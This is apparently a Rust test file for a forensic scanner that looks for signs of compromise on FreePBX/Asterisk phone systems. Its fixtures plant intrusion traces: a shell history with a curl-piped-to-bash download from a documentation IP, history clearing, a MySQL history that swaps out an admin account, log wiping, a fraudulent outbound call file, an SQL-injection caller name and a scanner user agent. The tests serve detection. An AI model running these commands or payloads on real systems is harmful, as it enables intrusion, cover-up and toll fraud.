//! Marks in what users typed, in orders to call, in names of callers and phones: found with their proof, and absent
//! where an administrator did what administrators do.

use std::fs;

use rusqlite::Connection;
use tolltrace::case::Options;
use tolltrace::report::model::{Finding, Report, Severity};

use crate::scenarios::examine_folder;
use crate::scratch::Scratch;

fn examine(files: &[(&str, &str)]) -> Report {
    let scratch = Scratch::new();
    scratch.file(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nasterisk:x:999:995::/home/asterisk:/bin/bash\n",
    );
    for (path, text) in files {
        scratch.file(path, text);
    }
    examine_folder(scratch.path(), &Options::default())
}

fn of<'r>(report: &'r Report, id: &str) -> Vec<&'r Finding> {
    report.findings.iter().filter(|finding| finding.id == id).collect()
}

#[test]
fn a_campaigns_commands_in_a_history_are_told_with_their_lines() {
    let typed =
        "#1746180600\nls\n#1746180700\ncurl -k http://192.0.2.1/z/wr.php | bash\n#1746180800\nhistory -c\n";
    let report = examine(&[("root/.bash_history", typed)]);
    let [found] = of(&report, "suspicious-command")[..] else { panic!("{:?}", report.findings) };
    assert_eq!((found.severity, found.subject.raw()), (Severity::Critical, "root/.bash_history"));
    let lines: Vec<_> = found.evidence.iter().map(|proof| (proof.line, proof.text.raw())).collect();
    assert!(lines.contains(&(Some(4), "curl -k http://192.0.2.1/z/wr.php | bash")), "{lines:?}");
    assert!(lines.contains(&(Some(6), "history -c")), "{lines:?}");
    assert!(report.incidents.is_empty(), "a history alone blames nobody");
}

#[test]
fn statements_for_the_database_are_read_and_their_secrets_masked() {
    let typed = "_HiStOrY_V2_\nuse\\040asterisk;\nDELETE\\040FROM\\040ampusers\\040WHERE\\040username='svc_freepbx';\nINSERT\\040INTO\\040ampusers\\040VALUES('a',SHA1('Zauberwort9'),'*');\n";
    let report = examine(&[("root/.mysql_history", typed)]);
    let [found] = of(&report, "suspicious-command")[..] else { panic!("{:?}", report.findings) };
    assert_eq!((found.severity, found.evidence[0].line), (Severity::Critical, Some(3)));
    assert!(!serde_json::to_string(&report).unwrap().contains("Zauberwort9"));
}

#[test]
fn what_an_administrator_types_accuses_nobody() {
    let typed = "cd /var/www/html\nls -la\ncurl -sk https://packages.example/key.asc -o key.asc\ncrontab -e\nvim /etc/asterisk/extensions_custom.conf\nfwconsole reload\nwget http://mirror.example/freepbx.tgz\nmysql asterisk -e \"select * from ampusers\"\n";
    let report = examine(&[("root/.bash_history", typed), ("home/anna/.bash_history", typed)]);
    assert!(of(&report, "suspicious-command").is_empty());
    // What some administrators type and most intruders do is worth a question, and no more.
    let report = examine(&[("root/.bash_history", "cat /dev/null > /var/log/secure\n")]);
    let [found] = of(&report, "suspicious-command")[..] else { panic!("{:?}", report.findings) };
    assert_eq!(found.severity, Severity::Medium);
    assert!(found.detail.contains("Administrators type such a thing as well"));
}

#[test]
fn an_order_to_call_abroad_is_told_and_a_wake_up_call_is_not() {
    let folder = "rootfs/var/spool/asterisk/outgoing";
    let honest = "Channel: Local/201@from-internal\nMaxRetries: 1\nApplication: Playback\nData: wake-up\n";
    let wake_up = format!("{folder}/wuc.1.ext.201.call");
    assert!(of(&examine(&[(&wake_up, honest)]), "suspicious-call-file").is_empty());
    let order = "Channel: Local/90025261552727@from-internal\nMaxRetries: 99\nApplication: Wait\nData: 600\n";
    let report = examine(&[(&wake_up, honest), (&format!("{folder}/a.call"), order)]);
    let [found] = of(&report, "suspicious-call-file")[..] else { panic!("{:?}", report.findings) };
    assert_eq!(found.subject.raw(), "/var/spool/asterisk/outgoing/a.call");
    assert!(found.evidence[0].text.raw().contains("90025261552727"));
}

#[test]
fn a_callers_name_that_is_a_statement_is_told() {
    let row = |name: &str| {
        format!(
            "\"\",\"100\",\"200\",\"from-trunk\",\"\"\"{name}\"\" <100>\",\"SIP/c-1\",\"\",\"Dial\",\"x\",\"2026-03-02 10:00:00\",\"\",\"2026-03-02 10:00:05\",\"5\",\"0\",\"NO ANSWER\",\"DOCUMENTATION\",\"\",\"\"\n"
        )
    };
    let records = |name: &str| [("var/log/asterisk/cdr-csv/Master.csv", row(name).repeat(3))];
    let told = |name: &str| {
        let [(path, text)] = records(name);
        examine(&[(path, &text)])
    };
    let is_told = |report: &Report| {
        of(report, "indicator").iter().any(|found| found.subject.raw() == "freepbx-2026-13")
    };
    assert!(!is_told(&told("O'Brien (sales)")));
    let report = told("a'); insert into ampusers values(1)#");
    assert!(is_told(&report), "{:?}", report.findings);
    assert!(report.incidents.is_empty());
}

#[test]
fn an_account_registered_from_a_program_that_guesses_is_told() {
    let stage = |agent: &str| {
        let scratch = Scratch::new();
        let path = scratch.file("var/lib/asterisk/astdb.sqlite3", "");
        fs::remove_file(&path).unwrap();
        let database = Connection::open(&path).unwrap();
        database
            .execute_batch("CREATE TABLE astdb (key VARCHAR(256), value VARCHAR(256), PRIMARY KEY(key))")
            .unwrap();
        let contact = format!(
            r#"{{"endpoint":"402","uri":"sip:402@198.51.100.7:49152","user_agent":"{agent}","expiration_time":"1779258600"}}"#
        );
        database.execute("INSERT INTO astdb VALUES ('/registrar/contact/402;@d6', ?1)", [contact]).unwrap();
        drop(database);
        examine_folder(scratch.path(), &Options::default())
    };
    assert!(of(&stage("Yealink SIP-T46S 66.84.0.15"), "scanner-registered").is_empty());
    let report = stage("friendly-scanner");
    let [found] = of(&report, "scanner-registered")[..] else { panic!("{:?}", report.findings) };
    assert_eq!(found.subject.raw(), "402");
    assert!(found.detail.contains("tools-1") && !found.evidence.is_empty());
}
